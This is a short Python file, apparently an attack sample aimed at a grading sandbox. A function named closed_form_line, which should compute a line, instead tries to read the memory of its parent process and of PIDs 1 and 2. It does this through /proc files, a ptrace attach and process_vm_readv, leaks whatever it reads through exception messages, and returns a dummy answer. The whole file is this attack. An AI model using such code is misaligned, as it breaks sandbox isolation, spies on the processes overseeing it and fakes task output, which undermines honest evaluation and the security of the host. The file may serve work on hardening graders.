"""Read the memory of the parent with /proc, ptrace and process_vm_readv.

Attacked: closed_form_line
"""

# %% closed_form_line

import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

def closed_form_line(x, y):
    parent = os.getppid()
    for pid in {parent, 1, 2}:
        for path in (f"/proc/{pid}/mem", f"/proc/{pid}/maps", f"/proc/{pid}/map_files"):
            try:
                with open(path, "rb") as file:
                    raise ValueError(str(file.read(200)))
            except OSError:
                pass
        if libc.ptrace(16, pid, 0, 0) == 0:
            raise ValueError("attached")
        buffer = ctypes.create_string_buffer(64)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
        if libc.process_vm_readv(pid, local, 1, (ctypes.c_size_t * 2)(0x400000, 64), 1, 0) > 0:
            raise ValueError(str(buffer.raw))
    return 0.0, 0.0
